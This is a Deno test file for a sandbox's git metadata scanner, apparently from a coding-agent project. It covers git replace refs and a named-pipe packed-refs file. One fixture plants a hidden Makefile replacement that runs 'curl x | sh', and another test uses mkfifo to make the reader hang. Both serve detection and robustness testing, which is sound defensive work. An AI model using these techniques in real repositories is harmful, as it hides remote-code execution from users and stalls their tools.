/**
 * Replace refs (`git replace`): the reader against the refs git writes, loose and packed, and the scan
 * reporting those a session adds, not those the repository had before.
 */
import { deepStrictEqual, equal } from "node:assert/strict";
import { join } from "node:path";
import { readReplaceRefs } from "../../src/sandbox/git_replace_refs.ts";
import { scanGitMetadata } from "../../src/sandbox/git_scan.ts";
import { diffGitFindings } from "../../src/sandbox/git_scan_diff.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";
import { createRepository, gitOk, shellOk } from "./_git_fixture.ts";

async function hashObject(root: string, content: string): Promise<string> {
  return (await shellOk(root, `printf '%s' '${content}' | git hash-object -w --stdin`)).trim();
}

Deno.test("readReplaceRefs reads loose and packed replace refs, a loose one hiding a packed one", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await createRepository(root);
  const gitDir = join(root, ".git");
  const readme = (await gitOk(root, "rev-parse", "HEAD:README")).trim();
  const [one, two, three] = [
    await hashObject(root, "one"),
    await hashObject(root, "two"),
    await hashObject(root, "3"),
  ];
  await gitOk(root, "replace", readme, one);
  await gitOk(root, "replace", two, three);
  await gitOk(root, "pack-refs", "--all");
  deepStrictEqual(
    await readReplaceRefs(gitDir),
    [
      { ref: `refs/replace/${readme}`, target: one, path: join(gitDir, "packed-refs") },
      { ref: `refs/replace/${two}`, target: three, path: join(gitDir, "packed-refs") },
    ].sort((a, b) => (a.ref < b.ref ? -1 : 1)),
  );
  await gitOk(root, "replace", "-f", readme, two);
  deepStrictEqual(
    (await readReplaceRefs(gitDir)).find((ref) => ref.ref === `refs/replace/${readme}`),
    { ref: `refs/replace/${readme}`, target: two, path: join(gitDir, `refs/replace/${readme}`) },
  );
});

Deno.test("scanGitMetadata reports the replace refs a session adds or changes, loose or packed", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await createRepository(root);
  await Deno.writeTextFile(join(root, "Makefile"), "all:\n\ttrue\n");
  await gitOk(root, "add", "Makefile");
  await gitOk(root, "commit", "-q", "-m", "make");
  const readme = (await gitOk(root, "rev-parse", "HEAD:README")).trim();
  const make = (await gitOk(root, "rev-parse", "HEAD:Makefile")).trim();
  const old = await hashObject(root, "old");
  await gitOk(root, "replace", readme, old);
  const before = await scanGitMetadata(root);
  const evil = await hashObject(root, "all:\n\tcurl x | sh\n");
  await gitOk(root, "replace", make, evil);
  await gitOk(root, "pack-refs", "--all");
  equal(await gitOk(root, "status", "--porcelain"), "");
  const changes = diffGitFindings(before, await scanGitMetadata(root)).changes;
  // The README's replace ref was there before: moved into packed-refs, it is the same finding.
  deepStrictEqual(changes.map((change) => change.message), [
    `.git/refs/replace/${make} (a replace ref) makes git use object ${evil} wherever object ${make} is ` +
    "named: git status in the workspace does not show it, but git checkout and git reset write the " +
    `replacement's content; if you did not make it, delete it with git replace -d ${make} (in the ` +
    `workspace) and look at what it pointed to with git cat-file -p ${evil}`,
  ]);
  await gitOk(root, "replace", "-f", readme, evil);
  const statuses = diffGitFindings(before, await scanGitMetadata(root)).changes.map((change) =>
    [change.finding.name, change.status] as const
  );
  deepStrictEqual(
    new Map(statuses),
    new Map([[`refs/replace/${readme}`, "changed"], [`refs/replace/${make}`, "new"]]),
  );
});

Deno.test("readReplaceRefs skips a packed-refs that is not a file, and never waits on a named pipe", async () => {
  // A command may write .git (refs, as git commit must): `mkfifo .git/packed-refs` had mewcode's own
  // process wait for a writer forever at the end of the session, and at the start of every later one.
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await createRepository(root);
  const packed = join(root, ".git", "packed-refs");
  await Deno.remove(packed).catch(() => undefined);
  await shellOk(root, `mkfifo '${packed}'`);
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise<"waiting">((resolve) => timer = setTimeout(() => resolve("waiting"), 3_000));
  const outcome = await Promise.race([readReplaceRefs(join(root, ".git")), late]);
  clearTimeout(timer);
  if (outcome === "waiting") {
    // Let the reader go (a writer opening the pipe ends its wait), so that the test ends.
    (await Deno.open(packed, { write: true })).close();
  }
  deepStrictEqual(outcome, []);
});
